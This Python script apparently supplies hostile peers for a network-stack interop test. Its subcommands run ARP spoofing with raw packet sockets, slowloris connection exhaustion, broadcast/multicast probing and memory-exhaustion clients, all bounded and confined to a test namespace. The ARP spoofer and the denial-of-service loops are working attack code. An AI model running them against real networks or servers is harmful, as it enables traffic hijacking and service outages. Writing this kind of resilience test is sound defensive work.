#!/usr/bin/env python3
"""Hostile peers for tests/interop/under_attack_test.ts (Python 3 standard
library only: raw AF_PACKET and ordinary sockets). Run inside the test's
network namespace; every loop is bounded in count and time; traffic goes only
to the namespace's TAP. Each subcommand prints one JSON object on stdout.

  arp-spoof   send a burst of spoofed ARP replies claiming the gateway's
              address for a fake MAC, while recording which MAC the victim's
              IPv4 frames go to (ETH_P_ALL, promiscuous)
  slowloris   N slow connections that reopen as soon as they are dropped,
              and a normal client counting its successful requests
  udp-bcast   datagrams to broadcast, multicast and unicast echo addresses;
              report which came back
  mem-attack  clients that fetch a large file and never read (first with
              TCP_MAXSEG 88, then with the default MSS), then clients that
              read at a fixed rate; all close at once at the end
"""
import argparse
import json
import selectors
import socket
import struct
import sys
import threading
import time

ETH_P_ALL = 0x0003
ETH_P_ARP = 0x0806
ETH_P_IP = 0x0800
SOL_PACKET = 263
PACKET_ADD_MEMBERSHIP = 1
PACKET_MR_PROMISC = 1


def mac_bytes(text):
    return bytes(int(x, 16) for x in text.split(":"))


def mac_text(b):
    return ":".join(f"{x:02x}" for x in b)


def arp_frame(eth_dst, eth_src, op, sha, spa, tha, tpa):
    eth = eth_dst + eth_src + struct.pack("!H", ETH_P_ARP)
    arp = struct.pack("!HHBBH", 1, ETH_P_IP, 6, 4, op) + sha + socket.inet_aton(spa) + tha + socket.inet_aton(tpa)
    return (eth + arp).ljust(60, b"\0")


def arp_spoof(a):
    victim = mac_bytes(a.victim_mac)
    fake = mac_bytes(a.fake_mac)
    gw = mac_bytes(a.gw_mac)
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
    s.bind((a.iface, 0))
    ifindex = socket.if_nametoindex(a.iface)
    # struct packet_mreq: ifindex, type, alen, address[8]
    s.setsockopt(SOL_PACKET, PACKET_ADD_MEMBERSHIP, struct.pack("iHH8s", ifindex, PACKET_MR_PROMISC, 0, b""))
    s.settimeout(0.005)
    # Half unicast replies to the victim, half gratuitous (broadcast) replies.
    burst = []
    for i in range(a.count):
        if i % 2 == 0:
            burst.append(arp_frame(victim, fake, 2, fake, a.claim_ip, victim, a.victim_ip))
        else:
            burst.append(arp_frame(b"\xff" * 6, fake, 2, fake, a.claim_ip, b"\xff" * 6, a.claim_ip))
    t0 = time.monotonic()
    attack_at = t0 + a.start_delay
    sent = 0
    next_send = attack_at
    ip_frames = []  # (t, dst class) of IPv4 frames from the victim
    probes = []  # (t, dst mac) of ARP requests from the victim for the claimed address
    while time.monotonic() - t0 < a.duration:
        now = time.monotonic()
        while sent < len(burst) and now >= next_send:
            s.send(burst[sent])
            sent += 1
            next_send += a.interval
        try:
            data, addr = s.recvfrom(2048)
        except socket.timeout:
            continue
        if len(data) < 14 or data[6:12] != victim:
            continue
        t = time.monotonic() - t0
        etype = struct.unpack("!H", data[12:14])[0]
        dst = data[0:6]
        if etype == ETH_P_IP:
            ip_frames.append((t, "gw" if dst == gw else ("fake" if dst == fake else "other")))
        elif etype == ETH_P_ARP and len(data) >= 42:
            op = struct.unpack("!H", data[20:22])[0]
            tpa = socket.inet_ntoa(data[38:42])
            if op == 1 and tpa == a.claim_ip:
                probes.append((round(t, 3), mac_text(dst)))
    attack_start = a.start_delay
    attack_end = a.start_delay + a.count * a.interval
    wrong = [t for t, c in ip_frames if c != "gw"]
    right = [t for t, c in ip_frames if c == "gw"]
    # Disruption: from the first frame to a wrong MAC until the first frame to
    # the gateway after the last wrong one (0 when nothing went astray).
    disrupted = 0.0
    if wrong:
        after = [t for t in right if t > wrong[-1]]
        disrupted = (after[0] if after else a.duration) - wrong[0]
    # Longest pause in frames to the gateway from the attack until 2 s after it
    # (informational: rate-limited TCP pauses on its own too).
    until = min(attack_end + 2, right[-1] if right else attack_end + 2)
    window = [attack_start] + [t for t in right if attack_start <= t <= until] + [until]
    gaps = sorted(((b - c, c) for c, b in zip(window, window[1:])), reverse=True)
    gap, gap_at = gaps[0] if gaps else (0.0, attack_start)
    print(json.dumps({
        "spoofed": sent,
        "attack_start": attack_start,
        "attack_end": round(attack_end, 3),
        "ip_frames": len(ip_frames),
        "to_gateway": len(right),
        "to_wrong_mac": len(wrong),
        "disrupted_s": round(disrupted, 3),
        "longest_gap_s": round(gap, 3),
        "longest_gap_at": round(gap_at, 3),
        "last_frame_to_gateway": round(right[-1], 3) if right else None,
        "probes": probes,
    }))


def slowloris(a):
    sources = a.sources.split(",")
    sel = selectors.DefaultSelector()
    stats = {"attacker_connects": 0, "attacker_dropped": 0}
    conns = {}  # sock -> (source, next_byte_time)
    deadline = time.monotonic() + a.duration
    stop = threading.Event()

    def open_one(src):
        if stats["attacker_connects"] >= a.max_connects:
            return
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setblocking(False)
        s.bind((src, 0))
        try:
            s.connect((a.target, a.port))
        except BlockingIOError:
            pass
        except OSError:
            s.close()
            return
        stats["attacker_connects"] += 1
        conns[s] = [src, False, time.monotonic() + a.trickle]
        sel.register(s, selectors.EVENT_WRITE | selectors.EVENT_READ)

    def drop(s):
        src = conns.pop(s)[0]
        sel.unregister(s)
        s.close()
        stats["attacker_dropped"] += 1
        if not stop.is_set():
            open_one(src)  # reopen at once

    for i in range(a.count):
        open_one(sources[i % len(sources)])

    results = {"tries": 0, "ok": 0, "fail_reasons": {}}

    def normal_client():
        time.sleep(a.warmup)
        end = time.monotonic() + a.measure
        while time.monotonic() < end and results["tries"] < a.max_tries:
            results["tries"] += 1
            try:
                c = socket.create_connection((a.target, a.port), timeout=a.request_timeout)
                c.settimeout(a.request_timeout)
                c.sendall(f"GET {a.path} HTTP/1.1\r\nHost: {a.target}\r\nConnection: close\r\n\r\n".encode())
                body = b""
                while True:
                    chunk = c.recv(65536)
                    if not chunk:
                        break
                    body += chunk
                c.close()
                head, _, rest = body.partition(b"\r\n\r\n")
                if head.startswith(b"HTTP/1.1 200") and rest == a.expect.encode():
                    results["ok"] += 1
                else:
                    why = head.split(b"\r\n")[0].decode(errors="replace") or "empty"
                    results["fail_reasons"][why] = results["fail_reasons"].get(why, 0) + 1
            except OSError as e:
                why = type(e).__name__
                results["fail_reasons"][why] = results["fail_reasons"].get(why, 0) + 1
            time.sleep(a.pause)

    client = threading.Thread(target=normal_client)
    client.start()
    while time.monotonic() < deadline and client.is_alive():
        for key, ev in sel.select(timeout=0.05):
            s = key.fileobj
            st = conns.get(s)
            if st is None:
                continue
            if ev & selectors.EVENT_READ:
                try:
                    if s.recv(4096) == b"":
                        drop(s)
                        continue
                except OSError:
                    drop(s)
                    continue
            if ev & selectors.EVENT_WRITE and not st[1]:
                try:
                    s.send(b"GET / HTTP/1.1\r\nHost: x\r\n")
                    st[1] = True
                    sel.modify(s, selectors.EVENT_READ)
                except BlockingIOError:
                    pass
                except OSError:
                    drop(s)
        now = time.monotonic()
        for s, st in list(conns.items()):
            if st[1] and now >= st[2]:
                st[2] = now + a.trickle
                try:
                    s.send(b"X-a: b\r\n")
                except BlockingIOError:
                    pass
                except OSError:
                    drop(s)
    stop.set()
    client.join(timeout=a.request_timeout + 5)
    for s in list(conns):
        sel.unregister(s)
        s.close()
    print(json.dumps({**results, **stats, "open_at_end": len(conns)}))


def udp_bcast(a):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, a.iface.encode())
    s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(a.source))
    s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 1)
    s.bind((a.source, 0))
    sends = [
        ("limited-broadcast", "255.255.255.255"),
        ("directed-broadcast", a.directed),
        ("multicast", "224.0.0.1"),
        ("unicast", a.target),
    ]
    for name, dst in sends:
        s.sendto(name.encode(), (dst, a.port))
    got = []
    s.settimeout(0.2)
    end = time.monotonic() + a.timeout
    unicast_at = None
    while time.monotonic() < end:
        try:
            data, src = s.recvfrom(2048)
        except socket.timeout:
            if unicast_at is not None and time.monotonic() - unicast_at > a.grace:
                break
            continue
        got.append(data.decode(errors="replace"))
        if data == b"unicast":
            unicast_at = time.monotonic()
    print(json.dumps({"sent": [n for n, _ in sends], "echoed": got}))


TCP_INFO_STATE_CLOSE = 7


def tcp_state(s):
    try:
        return s.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 8)[0]
    except OSError:
        return TCP_INFO_STATE_CLOSE


def mem_attack(a):
    """Phases start `phase` seconds apart: `tiny` non-reading clients with
    TCP_MAXSEG 88, then `plain` non-reading ones, then `slow` ones reading
    `rate` bytes/s each. `hold` seconds after the last phase every socket is
    closed at once (unread data: the kernel sends RST)."""
    request = f"GET {a.path} HTTP/1.1\r\nHost: {a.target}\r\n\r\n".encode()
    phases = [("tiny", a.tiny), ("plain", a.plain), ("slow", a.slow)]
    kinds = {k: {"opened": 0, "failed": 0, "requested": 0, "reset": 0, "bytes": 0} for k, _ in phases}
    conns = []  # [sock, kind, requested, budget]
    t0 = time.monotonic()
    end = t0 + a.phase * (len(phases) - 1) + a.hold
    started = 0
    last = t0
    while time.monotonic() < end:
        now = time.monotonic()
        while started < len(phases) and now >= t0 + a.phase * started:
            kind, n = phases[started]
            for _ in range(n):
                s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
                if kind == "tiny":
                    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_MAXSEG, 88)
                s.setblocking(False)
                if s.connect_ex((a.target, a.port)) not in (0, 115):  # EINPROGRESS
                    kinds[kind]["failed"] += 1
                    s.close()
                    continue
                kinds[kind]["opened"] += 1
                conns.append([s, kind, False, 0.0])
            started += 1
        dt = now - last
        last = now
        for c in conns:
            s, kind = c[0], c[1]
            if s is None:
                continue
            if not c[2]:
                try:
                    s.send(request)
                    c[2] = True
                    kinds[kind]["requested"] += 1
                except (BlockingIOError, OSError):
                    pass
                continue
            if kind != "slow":
                continue
            c[3] = min(c[3] + a.rate * dt, a.rate)  # at most a second's worth banked
            if c[3] < 4096:
                continue
            try:
                got = s.recv(int(c[3]))
            except BlockingIOError:
                continue
            except OSError:
                got = b""
            if not got:
                kinds[kind]["reset"] += 1
                s.close()
                c[0] = None
                continue
            c[3] -= len(got)
            kinds[kind]["bytes"] += len(got)
        time.sleep(0.02)
    for c in conns:
        s = c[0]
        if s is None:
            continue
        if tcp_state(s) == TCP_INFO_STATE_CLOSE:
            kinds[c[1]]["reset"] += 1
    closed_at = time.monotonic()
    for c in conns:
        if c[0] is not None:
            c[0].close()
    print(json.dumps({"kinds": kinds, "elapsed_s": round(closed_at - t0, 3)}))


def main():
    p = argparse.ArgumentParser()
    sub = p.add_subparsers(dest="cmd", required=True)
    q = sub.add_parser("arp-spoof")
    q.add_argument("--iface", required=True)
    q.add_argument("--victim-mac", required=True)
    q.add_argument("--victim-ip", required=True)
    q.add_argument("--claim-ip", required=True)
    q.add_argument("--gw-mac", required=True)
    q.add_argument("--fake-mac", default="02:de:ad:be:ef:01")
    q.add_argument("--count", type=int, default=200)
    q.add_argument("--interval", type=float, default=0.005)
    q.add_argument("--start-delay", type=float, default=2.0)
    q.add_argument("--duration", type=float, default=12.0)
    q = sub.add_parser("slowloris")
    q.add_argument("--target", required=True)
    q.add_argument("--port", type=int, required=True)
    q.add_argument("--sources", required=True)
    q.add_argument("--count", type=int, default=300)
    q.add_argument("--trickle", type=float, default=1.0)
    q.add_argument("--max-connects", type=int, default=200_000)
    q.add_argument("--duration", type=float, default=20.0)
    q.add_argument("--warmup", type=float, default=2.0)
    q.add_argument("--measure", type=float, default=8.0)
    q.add_argument("--max-tries", type=int, default=400)
    q.add_argument("--pause", type=float, default=0.02)
    q.add_argument("--request-timeout", type=float, default=5.0)
    q.add_argument("--path", default="/index.html")
    q.add_argument("--expect", required=True)
    q = sub.add_parser("udp-bcast")
    q.add_argument("--iface", required=True)
    q.add_argument("--source", required=True)
    q.add_argument("--target", required=True)
    q.add_argument("--directed", required=True)
    q.add_argument("--port", type=int, default=7)
    q.add_argument("--timeout", type=float, default=5.0)
    q.add_argument("--grace", type=float, default=0.5)
    q = sub.add_parser("mem-attack")
    q.add_argument("--target", required=True)
    q.add_argument("--port", type=int, required=True)
    q.add_argument("--path", required=True)
    q.add_argument("--tiny", type=int, default=5)
    q.add_argument("--plain", type=int, default=100)
    q.add_argument("--slow", type=int, default=120)
    q.add_argument("--rate", type=float, default=20_000)
    q.add_argument("--phase", type=float, default=3.0)
    q.add_argument("--hold", type=float, default=4.0)
    a = p.parse_args()
    {
        "arp-spoof": arp_spoof,
        "slowloris": slowloris,
        "udp-bcast": udp_bcast,
        "mem-attack": mem_attack,
    }[a.cmd](a)


if __name__ == "__main__":
    sys.exit(main())
